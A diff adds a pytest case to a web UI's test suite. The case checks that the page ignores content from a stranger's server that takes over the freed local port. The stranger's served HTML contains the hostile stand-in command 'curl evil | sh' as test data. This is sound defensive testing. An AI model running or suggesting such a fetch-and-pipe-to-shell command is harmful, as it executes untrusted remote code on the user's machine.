@@ -3,12 +3,17 @@ runs in them."""
 
 from __future__ import annotations
 
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import urlsplit
 
 import pytest
 
+from spotd.cli.client import Target
 from spotd.cli.web import layout
+from spotd.cli.web.door import open_door
+from spotd.cli.web.source import Source
 from spotd.model import Event, LeaveReason, Outcome, Severity
 from tests.rigs.browser import Page, open_page
 from tests.spotd.cli.web.test_pages import HOSTILE, lost
@@ -95,6 +100,36 @@ def test_it_moves_with_the_job_and_keeps_what_a_person_holds(
     with pytest.raises(Exception, match="in vain"):
         page.wait(f"document.getElementById('clock').textContent !== {before!r}", 1.5)
     assert page.console == []
+
+
+def test_who_has_the_port_afterwards_is_not_shown(
+    rig: Rig, page: Page, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Another user of the machine, who is told the address by each request."""
+    monkeypatch.setattr(layout, "REFRESH_S", 0.3)
+    story(rig)
+    told = Source(Target(socket=str(rig.socket)), kept=0.0)
+    door = open_door(told)
+    page.open(door.url)
+    door.stop()
+    told.close()
+
+    class Stranger(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.end_headers()
+            text = "<body><div id=state></div><p id=clock></p><main id=main>curl evil | sh</main>"
+            self.wfile.write(text.encode())
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", urlsplit(door.url).port or 0), Stranger) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        page.wait("document.getElementById('lost').textContent.includes('a stranger answers')")
+        server.shutdown()
+    assert page.js("document.getElementById('main').textContent.includes('evil')") is False
+    assert page.js(phase("gpt")) == "running"
 
 
 def test_it_is_legible_and_safe(rig: Rig, url: str, page: Page) -> None:
